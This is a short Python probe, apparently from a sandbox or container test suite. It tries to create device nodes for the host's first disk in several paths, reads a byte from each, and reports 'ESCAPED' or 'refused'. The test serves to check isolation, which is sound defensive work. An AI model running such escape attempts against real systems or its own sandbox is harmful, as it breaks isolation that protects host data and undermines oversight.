#: what    make a device of the host's disk
import os, stat

for path in ("/tmp/disk", "/out/disk", "/dev/disk"):
    for kind in (stat.S_IFBLK, stat.S_IFCHR):
        try:
            os.mknod(path, kind | 0o600, os.makedev(8, 0))
            open(path, "rb").read(1)
            print("ESCAPED", path)
        except OSError as e:
            print("refused", path, e)
